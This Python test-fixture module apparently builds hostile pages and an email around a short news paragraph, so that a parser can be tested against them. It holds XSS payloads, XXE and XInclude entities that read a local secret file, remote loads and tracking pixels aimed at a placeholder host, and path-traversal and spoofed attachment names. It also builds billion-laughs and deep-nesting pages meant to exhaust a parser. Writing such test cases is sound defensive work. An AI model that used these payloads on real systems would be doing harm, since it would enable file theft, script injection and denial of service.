"""Pages and mails with scripts, trackers and every way a page knows to load something from elsewhere."""

from __future__ import annotations

from tests.hostile.making import Files
from tests.hostile.making.pictures import laughs

WORDS = (
    "Officials in the town said on Tuesday that the old bridge would stay closed until the spring. "
    "“We waited a long time for this,” said Dana Exampleson, who lives beside it. "
)
MARKS = ("pwn-script", "pwn-handler", "pwn-import", "pwn-frame", "pwn-pixel", "pwn-refresh")
"""Words that stand only in parts of the page that act; shown as text they are harmless, as markup they are not."""


def everything(secret: str, web: str) -> Files:
    """The page, the same in other clothes, and pages made to exhaust their reader."""
    whole = page(secret, web)
    return {
        "active.html": whole.encode(),
        "active-utf16.html": b"\xff\xfe" + whole.encode("utf-16-le"),
        "active-utf7.html": b"<html><head><meta charset=utf-7></head><body>"
        + f"<p>{WORDS}</p><script>alert('pwn-script')</script>".encode("utf-7"),
        "active.xhtml": xhtml(secret, web),
        "active.txt": (whole + "\n").encode(),
        "active.eml": mail(web),
        "deep.html": b"<html><body>" + b"<div>" * 20_000 + WORDS.encode() + b"</div>" * 20_000,
        "wide.html": b"<html><body><p>"
        + WORDS.encode()
        + b"<p "
        + b" ".join(b"a%d=1" % n for n in range(6_000))
        + b">x",
        "unclosed.html": b"<html><body><p>" + WORDS.encode() + b"<!--" + b"<a href='" * 40_000,
        "laughs.xhtml": laughs("html").replace(b"<html>", b'<html xmlns="http://www.w3.org/1999/xhtml">'),
        "many.html": b"<html><body>" + b"<p>said</p>" * 12_000,
    }


def page(secret: str, web: str) -> str:
    """An article around which everything is tried."""
    return f"""<!doctype html>
<html lang="en"><head><title>Bridge</title><base href="{web}/base/">
<meta http-equiv="refresh" content="0; url={web}/pwn-refresh">
<meta property="og:image" content="{web}/og.png"><meta property="article:published_time" content="2020-01-02">
<link rel="stylesheet" href="{web}/pwn-import.css"><link rel="preload prefetch dns-prefetch" href="{web}/pre">
<link rel="icon" href="{web}/icon.ico"><link rel="manifest" href="{web}/m.json">
<style>@import "{web}/pwn-import.css"; body {{ background: url({web}/bg.png) }}
@font-face {{ font-family: x; src: url({web}/f.woff) }} p::after {{ content: url("file://{secret}") }}</style>
<script src="{web}/pwn-script.js"></script><script>fetch("{web}/pwn-script");</script>
<script type="module">import "{web}/m.js";</script><noscript><img src="{web}/pwn-pixel.gif"></noscript></head>
<body onload="alert('pwn-handler')" background="{web}/bg">
<h1>The bridge stays closed<img src=x onerror="alert('pwn-handler')"></h1>
<article><p>{WORDS * 4}</p>
<p style="background:url({web}/css.png)">{WORDS} <a href="javascript:alert('pwn-script')">more</a></p>
<img src="{web}/pwn-pixel.gif" srcset="{web}/2.gif 2x" width=1 height=1>
<picture><source srcset="{web}/s.webp"></picture>
<p>“<b onclick=alert('pwn-handler')>This</b> &lt;script&gt;alert('pwn-script')&lt;/script&gt; is what I said,” said
&lt;img src={web}/pwn-pixel onerror=alert(1)&gt; Exampleson.</p>
<blockquote cite="{web}/q">“A quotation with <i>markup</i>
and ]]&gt; --&gt; &lt;/style&gt;&lt;/script&gt;,” she said.</blockquote>
<video src="{web}/v.mp4" poster="{web}/v.jpg" autoplay></video><audio src="{web}/a.mp3"></audio>
<iframe src="{web}/pwn-frame" srcdoc="<script>alert(1)</script>"></iframe><embed src="{web}/e.swf">
<object data="{web}/o.swf"><param name=movie value="{web}/o.swf"></object><applet code="{web}/A.class"></applet>
<form action="{web}/form" id=f><input type=image src="{web}/i.png">
<button formaction="javascript:alert(1)">x</button></form>
<svg onload="alert('pwn-handler')"><image href="{web}/i.svg"/><use href="{web}/u.svg#x"/><script>alert(1)</script></svg>
<math href="javascript:alert(1)"><mtext>x</mtext></math><details ontoggle="alert(1)" open>x</details>
<template><script>alert('pwn-script')</script></template><portal src="{web}/p"></portal>
<figure><figcaption>A caption<script>alert('pwn-script')</script> by <img src={web}/c.gif></figcaption></figure>
<a href="vbscript:x">v</a><a href="data:text/html,<script>alert(1)</script>">d</a><a ping="{web}/ping" href="#">p</a>
<xml:namespace ns="urn:x"><p>\u202eevil gnp.exe\u202c and \x1b[31mred\x07</p></article></body></html>"""


def xhtml(secret: str, web: str) -> bytes:
    """The same as XML, with entities that name a file and an address, and inclusions."""
    return f"""<?xml version="1.0"?><?xml-stylesheet href="{web}/x.xsl" type="text/xsl"?>
<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "{web}/xhtml.dtd" [
<!ENTITY s SYSTEM "file://{secret}"><!ENTITY w SYSTEM "{web}/entity"><!ENTITY % p SYSTEM "{web}/p.dtd"> %p; ]>
<html xmlns="http://www.w3.org/1999/xhtml" xmlns:xi="http://www.w3.org/2001/XInclude">
<head><title>Bridge &s;</title></head>
<body><p>{WORDS} &s; &w;</p><xi:include href="file://{secret}" parse="text"/><p>{WORDS * 3}</p></body></html>
""".encode()


def mail(web: str) -> bytes:
    """A mail with a page, a picture from elsewhere and attachments of bad names."""
    lines = [
        "From: =?utf-8?q?Dana_=E2=80=AEmoc=2Eelpmaxe?= <dana@example.org>",
        "To: desk@example.org",
        "Subject: =?utf-8?b?PHNjcmlwdD5hbGVydCgncHduLXNjcmlwdCcpPC9zY3JpcHQ+?=",
        "Date: Tue, 3 Mar 2020 10:00:00 +0000",
        "Received: from x by y; Tue, 3 Mar 2020 10:00:00 +0000",
        "MIME-Version: 1.0",
        'Content-Type: multipart/mixed; boundary="b"',
        "",
        "--b",
        "Content-Type: text/html; charset=utf-8",
        "",
        f"<p>{WORDS}</p><img src='{web}/pwn-pixel'><script>alert('pwn-script')</script>",
        "--b",
        'Content-Type: application/octet-stream; name="../../run.exe"',
        'Content-Disposition: attachment; filename="../../<img src=x onerror=alert(1)>.exe"',
        "",
        "MZ",
        "--b--",
        "",
    ]
    return "\r\n".join(lines).encode()
